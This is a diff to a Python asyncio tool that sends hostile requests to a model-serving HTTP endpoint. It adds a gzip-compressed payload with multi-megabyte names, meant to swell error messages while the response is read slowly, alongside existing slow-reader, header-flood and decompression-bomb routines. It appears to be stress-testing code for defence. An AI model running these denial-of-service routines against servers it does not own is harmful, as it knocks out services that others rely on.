@@ -19,6 +19,7 @@ from __future__ import annotations
 import asyncio
 import base64
 import contextlib
+import gzip
 import itertools
 import json
 import multiprocessing
@@ -119,13 +120,18 @@ async def slow_body(target: Target, rng: random.Random) -> str:
 async def slow_reader(target: Target, rng: random.Random) -> str:
     """Requests a large answer and reads only its status, seconds later."""
     body = json.dumps({"signature_name": "align", "instances": ["a " * 200] * 4}).encode()
+    return await unread(target, post(target, body), rng)
+
+
+async def unread(target: Target, message: bytes, rng: random.Random) -> str:
+    """Sends a request, and reads only the status of its answer, seconds later."""
     connection = socket.socket()
     connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     connection.setblocking(False)
     await asyncio.get_running_loop().sock_connect(connection, (target.host, target.port))
     reader, writer = await asyncio.open_connection(sock=connection, limit=1)
     with contextlib.closing(writer):
-        writer.write(post(target, body))
+        writer.write(message)
         await asyncio.sleep(rng.uniform(1.0, 5.0))
         async with asyncio.timeout(40.0):
             start = await reader.read(12)
@@ -151,6 +157,20 @@ async def bomb(target: Target, rng: random.Random) -> str:
     unpacked = base64.b64encode(bytes(11_000_000)).decode()
     bodies: list[dict[str, Any]] = [{"instances": [{"b64": unpacked}]}, {"inputs": [[]] * 900_000}]
     return await send(target, Parts([post(target, json.dumps(rng.choice(bodies), separators=(",", ":")).encode())]))
+
+
+async def huge_names(target: Target, rng: random.Random) -> str:
+    """Sends a name of many megabytes where error messages repeat it, and does not read the answer for seconds."""
+    name = rng.choice("aé\U0001f600") * 3_000_000
+    documents: list[dict[str, Any]] = [
+        {"signature_name": name, "instances": ["a"]},
+        {"signature_name": [name]},
+        {"inputs": {name: ["a"]}},
+        {"instances": [{name: "a"}]},
+        {"instances": [{"text": 1, name: 1}]},
+    ]
+    body = gzip.compress(json.dumps(rng.choice(documents), ensure_ascii=False).encode(), 1)
+    return await unread(target, post(target, body, "Content-Encoding: gzip"), rng)
 
 
 async def forged_log(target: Target, rng: random.Random) -> str:
@@ -206,6 +226,7 @@ ATTACKS: dict[Callable[[Target, random.Random], Awaitable[str]], int] = {
     pipelined: 2,
     header_flood: 2,
     bomb: 2,
+    huge_names: 6,
     forged_log: 2,
     idle_sockets: 1,
     idle_clients: 1,
